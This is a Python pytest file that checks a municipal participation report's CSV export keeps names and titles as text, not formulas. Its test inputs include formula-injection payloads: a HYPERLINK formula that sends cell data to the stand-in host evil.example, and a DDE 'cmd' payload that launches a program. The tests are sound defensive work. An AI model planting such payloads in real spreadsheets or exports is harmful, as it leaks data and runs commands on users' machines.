"""The participation report's CSV keeps names and titles as text, never as formulas."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from api.report_csv import COLUMNS, report_csv


def row(**values: object) -> dict[str, object]:
    plain: dict[str, object] = {
        "series_id": "7b0c",
        "series": "Wasser in der Stadt",
        "host": "Stadt Wuppertal",
        "municipality": "Stadt Olpe",
        "key": "05966024",
        "state": "Nordrhein-Westfalen",
        "admitted_on": date(2024, 10, 1),
        "meetings_held": 2,
        "meetings_attended": 1,
        "reflection_held": False,
    }
    return {**plain, **values}


def cells(*rows: dict[str, object]) -> list[dict[str, str]]:
    text = report_csv(rows).removeprefix("\ufeff")
    table = list(csv.reader(io.StringIO(text), delimiter=";"))
    return [dict(zip([name for name, _ in COLUMNS], found, strict=True)) for found in table[1:]]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+cmd|'/c calc'!A0",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_a_spreadsheet_would_calculate_is_kept_as_text(text: str) -> None:
    [found] = cells(row(series=text, host=text, municipality=text))

    assert found["series"] == found["host"] == found["municipality"] == f"'{text}"


def test_ordinary_texts_numbers_days_and_answers_stay_as_they_are() -> None:
    [found] = cells(row(municipality="Gemeinde Süd-Ost = Mitte"))

    assert found["municipality"] == "Gemeinde Süd-Ost = Mitte"
    assert (found["key"], found["meetings_held"], found["admitted_on"]) == (
        "05966024",
        "2",
        "01.10.2024",
    )
    assert found["reflection_held"] == "nein"
